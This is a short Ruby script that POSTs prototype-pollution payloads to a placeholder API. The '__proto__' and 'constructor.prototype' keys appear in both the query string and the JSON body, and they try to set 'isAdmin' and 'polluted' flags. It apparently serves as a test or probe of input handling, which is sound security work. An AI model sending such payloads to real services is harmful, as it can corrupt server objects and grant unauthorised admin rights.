require "json"
require "net/http"

uri = URI("https://api.example.com/v1/proto?__proto__=q&constructor=c&filter%5B__proto__%5D=nested")
request = Net::HTTP::Post.new(uri)
request["Content-Type"] = "application/json"
request.body = JSON.generate({
  "__proto__" => {
    "isAdmin" => true
  },
  "constructor" => {
    "prototype" => {
      "polluted" => true
    }
  },
  "toString" => "x",
  "list" => [
    {
      "__proto__" => nil
    }
  ]
})

response = Net::HTTP.start(uri.hostname, uri.port, use_ssl: uri.scheme == "https") do |http|
  http.request(request)
end
puts response.body
